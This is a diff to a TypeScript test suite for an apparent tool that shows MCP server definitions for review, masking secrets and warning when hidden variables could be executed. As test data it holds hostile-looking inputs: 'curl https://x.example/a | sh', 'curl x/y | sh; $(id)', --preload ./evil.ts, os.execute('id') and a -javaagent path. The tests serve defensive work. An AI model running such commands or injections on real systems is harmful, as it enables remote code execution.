@@ -15,10 +15,10 @@ const remote = addressOf('https://example.com/mcp', { Authorization: 'Bearer ${s
 
 function snapshotOf(definition: ServerDefinition): TrustSnapshot {
   const digestOf = (value: string) => createHmac('sha256', 'key').update(value).digest('hex')
-  const lines = linesOf(definition).map(({ label, text, written }) => ({
+  const lines = linesOf(definition).map(({ label, kept, written }) => ({
     label,
-    text,
-    ...(written !== text && { digest: digestOf(written) })
+    text: kept,
+    ...(written !== kept && { digest: digestOf(written) })
   }))
   return { lines, digestOf }
 }
@@ -69,7 +69,7 @@ describe('definitionHash', () => {
 })
 
 describe('subjectOf', () => {
-  it('shows the exact command, one argument a line, and no literal value', () => {
+  it('shows the exact command, one argument a line, and what its variables hold', () => {
     const subject = subjectOf(server, SOURCE, undefined, undefined)
     expect(subject.lines).toEqual([
       { label: 'command', text: 'node' },
@@ -77,7 +77,7 @@ describe('subjectOf', () => {
       { label: 'argument 2', text: '--port' },
       { label: 'argument 3', text: '1' },
       { label: 'folder', text: '/work' },
-      { label: 'env A', text: HIDDEN_VALUE },
+      { label: 'env A', text: 'literal-4711' },
       { label: 'env B', text: '${TOKEN}' },
       { label: 'env file', text: '/srv/.env' }
     ])
@@ -97,7 +97,8 @@ describe('subjectOf', () => {
     const { lines, flows } = subjectOf({ ...server, metricsUrl }, SOURCE, undefined, undefined)
     expect(lines.at(-1)).toEqual({
       label: 'metrics',
-      text: `http://127.0.0.1:\${PORT}/metrics?k=${HIDDEN_VALUE}`
+      text: `http://127.0.0.1:\${PORT}/metrics?k=${HIDDEN_VALUE}`,
+      hidden: { isPart: true, length: 41, signs: [] }
     })
     expect(flows).toContainEqual({
       ...{ kind: 'variable', name: 'PORT', goesTo: 'the metrics address', leaves: false }
@@ -120,12 +121,17 @@ describe('subjectOf', () => {
     expect(lines).toEqual([
       {
         label: 'address',
-        text: `https://${hidden}@\${HOST}/x?a=${hidden}&b=\${B}&c=Bearer \${C}&${hidden}#${hidden}`
+        text: `https://${hidden}@\${HOST}/x?a=${hidden}&b=\${B}&c=Bearer \${C}&${hidden}#${hidden}`,
+        hidden: { isPart: true, length: 52, signs: [] }
       },
       { label: 'transport', text: 'auto' },
       { label: 'header Authorization', text: 'Bearer ${T}' },
-      { label: 'header Cookie', text: hidden },
-      { label: 'header D', text: hidden }
+      {
+        label: 'header Cookie',
+        text: hidden,
+        hidden: { isPart: false, length: 6, signs: [] }
+      },
+      { label: 'header D', text: '${T:-s3cret-fallback}' }
     ])
     expect(warnings.map(({ kind }) => kind)).toContain('secret-leaves')
   })
@@ -144,16 +150,49 @@ describe('subjectOf', () => {
     ['GIT_TOKEN', 'hunter2', HIDDEN_VALUE],
     ['CARGO_REGISTRY_TOKEN', 'hunter2', HIDDEN_VALUE],
     ['UV_INDEX_ACME_PASSWORD', 'hunter2', HIDDEN_VALUE],
-    ['HTTPS_PROXY', 'http://me:hunter2@proxy:3128', HIDDEN_VALUE],
+    ['HTTPS_PROXY', 'http://me:hunter2@proxy:3128', 'http://•••@proxy:3128'],
     ['HTTPS_PROXY', 'http://proxy:3128', 'http://proxy:3128'],
     ['PIP_INDEX_URL', 'https://me:hunter2@acme.dev/simple', 'https://•••@acme.dev/simple'],
-    ['GIT_CONFIG_KEY_0', 'core.sshCommand', 'core.sshCommand']
+    ['GIT_CONFIG_KEY_0', 'core.sshCommand', 'core.sshCommand'],
+    ['BUN_OPTIONS', '--preload ./evil.ts', '--preload ./evil.ts'],
+    ['LUA_INIT', "os.execute('id')", "os.execute('id')"],
+    ['JAVA_OPTS', '-javaagent:/tmp/e.jar', '-javaagent:/tmp/e.jar'],
+    ['ERL_AFLAGS', '-eval halt().', '-eval halt().'],
+    ['STARTUP', 'curl https://x.example/a | sh', 'curl https://x.example/a | sh'],
+    ['STARTUP', '--key=ghp_abcdefgh12345678 --run x', `--key=${HIDDEN_VALUE} --run x`],
+    ['A', '${API_KEY:-hunter2-hunter2}', '${API_KEY:-•••}'],
+    ['TOKEN', 'true', 'true']
   ])('shows of the variable %s=%s: %s', (name, value, text) => {
-    expect(linesOf(processOf('x', [], { env: { [name]: value } }))[1]).toEqual({
+    expect(linesOf(processOf('x', [], { env: { [name]: value } }))[1]).toMatchObject({
       label: `env ${name}`,
       text,
       written: value
     })
+  })
+
+  it('says how long a hidden value is, and what of a command it has in it', () => {
+    const env = { API_TOKEN: 'curl x/y | sh; $(id)' }
+    const definition = processOf('sh', ['-c', 'eval "$API_TOKEN"'], { env })
+    const { lines, warnings } = subjectOf(definition, SOURCE, undefined, undefined)
+    expect(lines.at(-1)).toEqual({
+      label: 'env API_TOKEN',
+      text: HIDDEN_VALUE,
+      hidden: { isPart: false, length: 20, signs: ['spaces', '/', ';', '|', '$('] }
+    })
+    expect(warnings).toContainEqual({
+      kind: 'hidden-code',
+      message:
+        'The code in the arguments can run what is in the variable API_TOKEN, which is hidden here. Look at it in the file.'
+    })
+  })
+
+  it.each([
+    ['node', ['-e', 'run(process.env.API_TOKEN)'], true],
+    ['node', ['server.js'], false]
+  ])('warns of a hidden value that code in the arguments can run: %s %j', (command, args, is) => {
+    const definition = processOf(command, args, { env: { API_TOKEN: 'hunter2-hunter2' } })
+    const { warnings } = subjectOf(definition, SOURCE, undefined, undefined)
+    expect(warnings.some(({ kind }) => kind === 'hidden-code')).toBe(is)
   })
 
   it('says that it was refused before', () => {
@@ -178,10 +217,12 @@ describe('subjectOf', () => {
   })
 
   it('sees that a hidden value is another one, without showing either', () => {
-    expect(changesOf({ ...server, env: { ...server.env, A: 'another-4711' } }, server)).toEqual([
+    const withToken = (token: string): ServerDefinition => ({ ...server, env: { TOKEN: token } })
+    expect(changesOf(withToken('another-4711'), withToken('literal-4711'))).toEqual([
       {
-        label: 'env A',
+        label: 'env TOKEN',
         text: HIDDEN_VALUE,
+        hidden: { isPart: false, length: 12, signs: [] },
         change: { kind: 'changed', before: `${HIDDEN_VALUE} (another value)` }
       }
     ])
